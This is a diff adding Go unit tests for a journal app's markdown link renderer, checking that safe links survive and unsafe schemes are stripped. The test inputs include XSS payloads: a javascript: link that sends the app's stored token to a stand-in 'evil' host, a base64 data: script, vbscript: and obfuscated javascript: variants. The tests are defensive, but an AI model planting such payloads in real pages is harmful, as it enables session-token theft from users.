@@ -0,0 +1,47 @@
+package main
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestRenderInlineLinks(t *testing.T) {
+	tests := []struct {
+		name string
+		text string
+		want string
+	}{
+		{"https", "[site](https://example.com/a?b=1)", `<a href="https://example.com/a?b=1">site</a>`},
+		{"http", "[site](http://example.com)", `<a href="http://example.com">site</a>`},
+		{"mailto", "[me](mailto:me@example.com)", `<a href="mailto:me@example.com">me</a>`},
+		{"relative", "[other](Entry3.html)", `<a href="Entry3.html">other</a>`},
+		{"absolute path", "[other](/entries/Entry3)", `<a href="/entries/Entry3">other</a>`},
+		{"fragment", "[top](#top)", `<a href="#top">top</a>`},
+		{"javascript", "[click](javascript:location='//evil/?'+localStorage['journalz-token'])", "click"},
+		{"javascript mixed case", "[click](JavaScript:alert(1))", "click"},
+		{"data", "[img](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "img"},
+		{"vbscript", "[x](vbscript:msgbox)", "x"},
+		{"control character", "[x](java\x01script:alert(1))", "x"},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			got := renderInline(test.text)
+			if !strings.HasPrefix(got, test.want) {
+				t.Errorf("renderInline(%q) = %q, want it to start with %q", test.text, got, test.want)
+			}
+			if strings.Contains(strings.ToLower(got), "javascript:") && strings.Contains(got, "href") {
+				t.Errorf("renderInline(%q) = %q, has a javascript: href", test.text, got)
+			}
+		})
+	}
+}
+
+func TestMarkdownToHTMLDropsUnsafeLinks(t *testing.T) {
+	got := markdownToHTML([]string{"see [this](javascript:alert(1)) and [that](data:text/html,x)"})
+	if strings.Contains(got, "href") {
+		t.Errorf("markdownToHTML kept an unsafe href: %q", got)
+	}
+	if !strings.Contains(got, "this") || !strings.Contains(got, "that") {
+		t.Errorf("markdownToHTML lost the link text: %q", got)
+	}
+}